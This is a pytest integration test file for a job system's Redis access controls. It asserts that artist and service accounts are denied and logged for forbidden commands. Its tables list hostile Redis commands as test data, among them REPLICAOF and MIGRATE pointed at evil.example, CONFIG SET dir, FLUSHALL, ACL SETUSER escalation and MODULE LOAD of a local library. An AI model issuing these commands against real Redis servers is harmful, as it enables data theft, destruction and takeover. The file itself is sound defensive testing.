"""What an account may not do, Redis denies and logs, whoever has stolen its password."""

from __future__ import annotations

import pytest

from flatiron_tasks.contracts import channels
from tests.integration.security.forgery import message
from tests.integration.security.studio import Studio, raw

CANCEL = message(channels.CANCEL_JOB_TASK, ["20260131-142501-7f3a9c0d"])
ANNS_EVENTS, ANNS_VIEWS = channels.artist_events("Ann"), channels.artist_views("Ann")

ARTIST: dict[str, tuple[object, ...]] = {
    "a message as another artist": ("LPUSH", "flatiron.front-desk.ann", CANCEL),
    "a message as a technical director": ("LPUSH", "flatiron.front-desk.td", CANCEL),
    "a message to the desk without accounts": ("LPUSH", "flatiron.front-desk", CANCEL),
    "a step for the workers": ("LPUSH", "flatiron.dispatch", CANCEL),
    "a step put in by the back door": ("LPUSH", "flatiron-worker-unacked", CANCEL),
    "another artist's events": ("XREAD", "STREAMS", ANNS_EVENTS, "0"),
    "everybody's events": ("XREAD", "STREAMS", channels.EVENT_STREAM, "0"),
    "another artist's views": ("HGETALL", ANNS_VIEWS),
    "a job's record": ("HGETALL", "flatiron:job:20260131-142501-7f3a9c0d"),
    "a forged event": ("XADD", channels.artist_events("Bob"), "*", "event", "{}"),
    "a forged view": ("HSET", channels.artist_views("Bob"), "j", "{}"),
    "taking messages": ("RPOP", "flatiron.front-desk.bob"),
    "EVAL": ("EVAL", "return redis.call('KEYS','*')", "0"),
    "SCRIPT LOAD": ("SCRIPT", "LOAD", "return 1"),
    "FUNCTION LOAD": ("FUNCTION", "LOAD", "#!lua name=a\nredis.register_function('a', function() end)"),
    "KEYS": ("KEYS", "*"),
    "SCAN": ("SCAN", "0"),
    "FLUSHALL": ("FLUSHALL",),
    "CONFIG GET": ("CONFIG", "GET", "*"),
    "CONFIG SET": ("CONFIG", "SET", "dir", "/tmp"),
    "MONITOR": ("MONITOR",),
    "ACL LIST": ("ACL", "LIST"),
    "ACL SETUSER": ("ACL", "SETUSER", "bob", "~*"),
    "CLIENT LIST": ("CLIENT", "LIST"),
    "CLIENT KILL": ("CLIENT", "KILL", "TYPE", "normal"),
    "CLIENT PAUSE": ("CLIENT", "PAUSE", "100000"),
    "REPLICAOF": ("REPLICAOF", "evil.example", "6379"),
    "SHUTDOWN": ("SHUTDOWN", "NOSAVE"),
    "MIGRATE": ("MIGRATE", "evil.example", "6379", ANNS_VIEWS, "0", "1000"),
    "remote control of workers": ("PUBLISH", "/0.celery.pidbox", "{}"),
    "listening to workers": ("SUBSCRIBE", "/0.celeryev/worker.heartbeat"),
}

SERVICE: dict[str, tuple[str, tuple[object, ...]]] = {
    "the front desk takes steps": ("front-desk", ("BRPOP", "flatiron.dispatch", "1")),
    "the front desk reads what workers hold": ("front-desk", ("HGETALL", "flatiron-worker-unacked")),
    "the front desk empties Redis": ("front-desk", ("FLUSHALL",)),
    "a worker takes artists' messages": ("worker", ("BRPOP", "flatiron.front-desk.ann", "1")),
    "a worker writes as a technical director": ("worker", ("LPUSH", "flatiron.front-desk.td", CANCEL)),
    "a worker looks for keys": ("worker", ("KEYS", "*")),
    "the sweep changes a record": ("sweep", ("HSET", "flatiron:job:20260131-142501-7f3a9c0d", "state", "done")),
    "Flower sends a step": ("flower", ("LPUSH", "flatiron.dispatch", CANCEL)),
    "Flower writes as an artist": ("flower", ("LPUSH", "flatiron.front-desk.ann", CANCEL)),
    "Flower reads a record": ("flower", ("HGETALL", "flatiron:job:20260131-142501-7f3a9c0d")),
    "Flower reads views": ("flower", ("HGETALL", ANNS_VIEWS)),
    "the job pages change accounts": ("web", ("ACL", "SETUSER", "web", "+@all")),
    "a technical director changes the configuration": ("td", ("CONFIG", "SET", "requirepass", "x")),
}


@pytest.mark.parametrize("attack", ARTIST)
def test_an_artists_account_is_denied(studio: Studio, attack: str) -> None:
    _is_denied_and_logged(studio, "bob", ARTIST[attack])


@pytest.mark.parametrize("attack", SERVICE)
def test_a_services_account_is_denied(studio: Studio, attack: str) -> None:
    _is_denied_and_logged(studio, *SERVICE[attack])


@pytest.mark.parametrize("command", [("DEBUG", "SLEEP", "10"), ("MODULE", "LOAD", "/tmp/a.so")])
def test_not_even_an_administrator_loads_code_from_afar(studio: Studio, command: tuple[object, ...]) -> None:
    for account in ("admin", "bob"):
        assert "command not allowed" in raw(studio.client(account), *command)


def test_nobody_does_anything_without_an_account(studio: Studio) -> None:
    client = studio.client("bob")
    client.connection_pool.connection_kwargs.update(username=None, password=None)
    assert raw(client, "PING") == "denied: Authentication required."


def test_a_wrong_password_is_logged(studio: Studio) -> None:
    studio.forgive()
    assert raw(studio.client("bob"), "AUTH", "ann", "guess").startswith("denied")
    assert [entry["reason"] for entry in studio.denied()] == ["auth"]
    studio.forgive()


def _is_denied_and_logged(studio: Studio, account: str, command: tuple[object, ...]) -> None:
    studio.forgive()
    answer = raw(studio.client(account), *command)
    assert answer.startswith("denied"), answer
    assert [entry["username"] for entry in studio.denied()] == [account]
    studio.forgive()
